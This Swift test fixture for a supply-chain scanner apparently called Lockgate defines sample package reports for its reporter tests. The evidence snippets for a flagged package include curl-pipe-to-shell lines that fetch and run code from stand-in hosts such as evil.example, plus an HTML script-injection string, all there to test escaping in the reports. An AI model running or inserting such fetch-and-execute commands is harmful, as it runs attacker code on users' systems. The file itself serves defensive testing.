import LockgateCore

/// The fixed inputs every reporter test renders: one package of each verdict, a `scan` input, a lockfile that did
/// not parse, and evidence whose snippets hold pipes, backticks, control characters and non-ASCII text.
enum ReportFixture {
    /// The packages, in a deliberately unsorted order.
    static let packages: [PackageReport] = [
        PackageReport(
            ecosystem: .npm, name: "left-pad", version: "1.3.0", lockfile: "package-lock.json",
            location: SourceLocation(line: 30, column: 5), verdict: .pass, findings: []),
        PackageReport(
            ecosystem: .npm, name: "evil-pkg", version: "1.0.0", lockfile: "package-lock.json",
            location: SourceLocation(line: 12, column: 5),
            sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", score: 0.97,
            verdict: .block,
            findings: [
                Finding(
                    rule: "source_insecure_http", severity: .block,
                    message: "The archive is fetched over plain http: http://evil.example/evil-pkg-1.0.0.tgz",
                    evidence: [
                        Evidence(
                            path: "package-lock.json", line: 14, column: 7,
                            snippet: "\"resolved\": \"http://evil.example/evil-pkg-1.0.0.tgz\"")
                    ]),
                Finding(
                    rule: "denylisted", severity: .block,
                    message: "Denied by policy: known *credential stealer* <script>alert(1)</script>",
                    evidence: [
                        Evidence(
                            path: "package-lock.json", line: 12, column: 5, snippet: "\"node_modules/evil-pkg\": {"),
                        Evidence(
                            path: "package/index.js", line: 3, column: 1,
                            snippet: "require('child_process').exec(`curl http://x.example | sh`)"),
                        Evidence(path: "package/install.sh", line: 1, snippet: "curl -s evil.example |\u{1B}[2J bash"),
                    ]),
            ]),
        PackageReport(
            ecosystem: .pypi, name: "requests", version: ">=2.0", lockfile: "requirements.txt",
            location: SourceLocation(line: 3, column: 1), verdict: .warn,
            findings: [
                Finding(
                    rule: "requirement_unpinned", severity: .warn,
                    message: "requests is not pinned to one exact version (>=2.0).",
                    evidence: [
                        Evidence(
                            path: "requirements.txt", line: 3, column: 1, snippet: "requests>=2.0  # see ``notes`` | x")
                    ]),
                Finding(
                    rule: "integrity_missing", severity: .warn, message: "No --hash is given for requests.",
                    evidence: [Evidence(path: "requirements.txt", line: 3)]),
            ]),
        PackageReport(
            ecosystem: .npm, name: "broken-pkg", version: "2.0.0", lockfile: "package-lock.json",
            location: SourceLocation(line: 50, column: 5), verdict: .error,
            findings: [
                Finding(
                    rule: "fetch_failed", severity: .warn,
                    message: "The archive could not be fetched: HTTP 503 from registry.npmjs.org after 3 attempts.")
            ]),
        PackageReport(
            ecosystem: .npm, name: "@types/nodee", version: "20.1.0", lockfile: "web app/package-lock.json",
            location: SourceLocation(line: 40, column: 5), verdict: .warn,
            findings: [
                Finding(
                    rule: "typosquat_candidate", severity: .warn,
                    message: "The name is one edit from the popular `@types/node`.",
                    evidence: [
                        Evidence(
                            path: "web app/package-lock.json", line: 40, column: 5,
                            snippet: "\"node_modules/@types/nodee\": { // ünïcødé ✓ 日本")
                    ])
            ]),
        PackageReport(
            ecosystem: .pypi, name: "local-lib", version: "0.2.0", lockfile: "uv.lock",
            location: SourceLocation(line: 8, column: 1), verdict: .pass,
            findings: [
                Finding(
                    rule: "source_path", severity: .info, message: "local-lib is installed from ../local-lib.",
                    evidence: [
                        Evidence(
                            path: "uv.lock", line: 10, column: 1, snippet: "source = { directory = \"../local-lib\" }")
                    ])
            ]),
        PackageReport(
            ecosystem: .npm, name: "tiny-scan", version: "0.0.1", input: "downloads/tiny-scan-0.0.1.tgz",
            score: 0.81, verdict: .block,
            findings: [
                Finding(
                    rule: "install_script_network", severity: .block,
                    message: "The postinstall script downloads and runs code.",
                    evidence: [
                        Evidence(
                            path: "package/package.json", line: 5, column: 5,
                            snippet: "\"postinstall\": \"node x.js\"")
                    ])
            ]),
    ]

    /// One lockfile that could not be read.
    static let problems: [RunProblem] = [
        RunProblem(
            path: "poetry.lock", location: SourceLocation(line: 7, column: 1),
            message: "expected `=` after key `name`, found `|`")
    ]

    /// The report.
    static var report: ScanReport {
        ScanReport(toolVersion: LockgateVersion.current, packages: packages, problems: problems)
    }

    /// A report with nothing in it.
    static var emptyReport: ScanReport {
        ScanReport(toolVersion: LockgateVersion.current, packages: [], problems: [])
    }

    /// Lockfiles for `lockgate list`.
    static let lockfiles: [LockfileContents] = [
        LockfileContents(
            path: "requirements.txt", format: .requirements, formatVersion: nil,
            packages: [
                LockedPackage(
                    ecosystem: .pypi, name: "requests", version: ">=2.0", location: SourceLocation(line: 3, column: 1),
                    pinned: false),
                LockedPackage(
                    ecosystem: .pypi, name: "idna", version: "3.7",
                    source: PackageSource(kind: .tarball, url: "https://example.com/idna-3.7.tar.gz"),
                    integrity: [
                        Integrity(
                            algorithm: .sha256, hex: "12F1D8F6C4A0B1E2D3C4B5A69788796A5B4C3D2E1F0A9B8C7D6E5F4A3B2C1D0E")
                    ], location: SourceLocation(line: 4, column: 1)),
            ], localLinks: []),
        LockfileContents(
            path: "package-lock.json", format: .npm, formatVersion: "3",
            packages: [
                LockedPackage(
                    ecosystem: .npm, name: "string-width", version: "4.2.3",
                    source: PackageSource(
                        kind: .registry, url: "https://registry.npmjs.org/string-width/-/string-width-4.2.3.tgz"),
                    integrity: [Integrity(algorithm: .sha1, hex: "0123456789abcdef0123456789abcdef01234567")],
                    location: SourceLocation(line: 20, column: 5), aliases: ["string-width-cjs"]),
                LockedPackage(
                    ecosystem: .npm, name: "fsevents", version: "2.3.3", dev: true, optional: true,
                    location: SourceLocation(line: 31, column: 5)),
                LockedPackage(
                    ecosystem: .npm, name: "my-fork", version: "1.0.0",
                    source: PackageSource(kind: .git, url: "git+ssh://git@github.com/me/my-fork.git#abc123"),
                    location: SourceLocation(line: 40, column: 5), bundled: true),
            ],
            localLinks: [
                LocalLink(
                    name: "app", path: "packages/app", kind: .workspace, location: SourceLocation(line: 9, column: 5)),
                LocalLink(name: nil, path: "../shared lib", kind: .link, location: SourceLocation(line: 12, column: 5)),
            ]),
    ]

    /// A lockfile that could not be read, for `lockgate list`.
    static let listProblems: [RunProblem] = [
        RunProblem(path: "yarn.lock", location: nil, message: "not a yarn lockfile"),
        RunProblem(path: "pnpm-lock.yaml", location: SourceLocation(line: 2, column: 3), message: "expected a mapping"),
    ]
}
